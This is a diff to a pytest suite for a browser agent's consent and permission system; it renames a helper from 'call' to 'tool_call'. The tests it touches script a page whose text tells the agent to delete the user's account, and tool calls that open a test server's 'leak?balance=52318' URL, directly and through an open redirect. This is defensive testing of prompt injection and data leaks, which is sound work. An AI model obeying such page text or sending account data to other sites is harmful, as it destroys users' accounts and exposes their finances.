@@ -24,7 +24,7 @@ import pytest
 from tests.helpers.model_server import Reply
 from tests.helpers.page_content import page_content
 from tests.helpers.recording_site import Site
-from tests.helpers.tool_calls import call, later, settings, told
+from tests.helpers.tool_calls import tool_call, later, settings, told
 
 from tests.helpers.consent_pages import DRAWN, FRAMED, INBOX, LOOK_ALIKES, OTHER, TRAP, WORKFLOW, go_to, html
 
@@ -73,7 +73,7 @@ def test_a_site_ticked_for_a_replay_never_reaches_the_agent_that_takes_over(cons
     panel.run(f"chrome.storage.local.set({{ workflows: {json.dumps(stored)} }})")
     try:
         # The page removed "Buy now" so that the agent takes over; its text tells the agent to delete.
-        model.script(call("click", locator="#delete"), Reply(text="I did not delete it."))
+        model.script(tool_call("click", locator="#delete"), Reply(text="I did not delete it."))
         panel.send("/buy_kettle")
         asked = consent_turn.question(1)  # box 0: the replay's step, allowed by the ticked site, recorded
         assert asked["actor"] == "TabAgent asks:" and asked["message"] == "Click the button “Delete my account”."
@@ -89,10 +89,10 @@ def test_a_site_ticked_for_a_replay_never_reaches_the_agent_that_takes_over(cons
 def test_what_one_managed_agent_is_allowed_is_neither_anothers_nor_its_managers(consent_turn, model, consent_shop):
     team = [{"name": name, "description": f"The {name} helper: give it a task.", "agent": "tool_calling"} for name in ("first", "second")]
     with_settings(consent_turn, model, team=team, max_steps=12)
-    delegate = [call(name, task="Work on the shop page.") for name in ("first", "second")]
-    model.script(delegate[0], call("click", locator="#go"), Reply(text="Searched."),
-                 delegate[1], call("click", locator="#delete"), Reply(text="Not deleted."),
-                 call("click", locator="#delete"), Reply(text="Done."))
+    delegate = [tool_call(name, task="Work on the shop page.") for name in ("first", "second")]
+    model.script(delegate[0], tool_call("click", locator="#go"), Reply(text="Searched."),
+                 delegate[1], tool_call("click", locator="#delete"), Reply(text="Not deleted."),
+                 tool_call("click", locator="#delete"), Reply(text="Done."))
     consent_turn.send("Tidy up the shop")
     consent_turn.question(0)
     consent_turn.answer_question(0, "site")  # every action of the first agent on this site, for the turn
@@ -108,7 +108,7 @@ def test_what_one_managed_agent_is_allowed_is_neither_anothers_nor_its_managers(
 
 def test_opening_a_tab_on_a_site_the_settings_never_allow_is_refused_without_a_question(consent_turn, model, post):
     with_settings(consent_turn, model, site_rules=f"127.0.0.1:{post.origin.rsplit(':', 1)[1]}: never")
-    model.script(call("open_tab", url=post.url("leak?balance=52318")), Reply(text="I could not."))
+    model.script(tool_call("open_tab", url=post.url("leak?balance=52318")), Reply(text="I could not."))
     consent_turn.send("Open the offer")
     assert finish(consent_turn) == "ok"
     assert [state for state, _ in boxes(consent_turn)] == ["refused_by_settings"]
@@ -117,8 +117,8 @@ def test_opening_a_tab_on_a_site_the_settings_never_allow_is_refused_without_a_q
 
 def test_navigate_allowed_for_the_turn_is_not_carried_by_an_open_redirect_to_another_site(consent_turn, model, consent_shop, post):
     consent_shop.pages["/go"] = go_to(post.url("leak?balance=52318"))  # the shop's open redirect
-    model.script(call("navigate", url=consent_shop.url("/a")), call("navigate", url=consent_shop.url("/go")),
-                 call("open_tab", url=consent_shop.url("/a")), call("open_tab", url=consent_shop.url("/go")), Reply(text="Done."))
+    model.script(tool_call("navigate", url=consent_shop.url("/a")), tool_call("navigate", url=consent_shop.url("/go")),
+                 tool_call("open_tab", url=consent_shop.url("/a")), tool_call("open_tab", url=consent_shop.url("/go")), Reply(text="Done."))
     consent_turn.send("Look around the shop")
     consent_turn.question(0)
     consent_turn.answer_question(0, "turn")  # navigating to the consent_shop, for the turn
@@ -136,7 +136,7 @@ def test_a_tab_the_agent_opened_that_a_redirect_took_elsewhere_is_not_pictured_u
     consent_shop.pages["/offer"] = go_to(other_site.url("/other"))
     with_settings(consent_turn, model, model_sees_images="yes")
     watching = threading.Event()
-    model.script(call("open_tab", url=consent_shop.url("/offer")), later(lambda r: {"name": "switch_tab", "arguments": {"tab_id": opened(r)}}),
+    model.script(tool_call("open_tab", url=consent_shop.url("/offer")), later(lambda r: {"name": "switch_tab", "arguments": {"tab_id": opened(r)}}),
                  Reply(tool_calls=[{"name": "screenshot", "arguments": {}}], pause=watching), Reply(text="Done."))
     consent_turn.send("Open the offer and look at it")
     consent_turn.question(0)
@@ -174,7 +174,7 @@ def test_a_frame_that_navigated_away_from_its_src_is_never_acted_in_as_its_src(c
     with_settings(consent_turn, model, site_rules=f"127.0.0.1:{consent_shop.url('').split(':')[2].rstrip('/')}: allow")  # the shop: no question
     consent_turn.show(consent_shop.url("/cards"))
     wait_for_value(consent_turn, lambda: any(r["path"] == "/bank" for r in other_site.requests))
-    model.script(call("drag", source="#card", target="#frame"), Reply(text="I could not."))
+    model.script(tool_call("drag", source="#card", target="#frame"), Reply(text="I could not."))
     consent_turn.send("Drop the card into the inbox")
     assert finish(consent_turn) == "ok"
     said = told(model, 1)
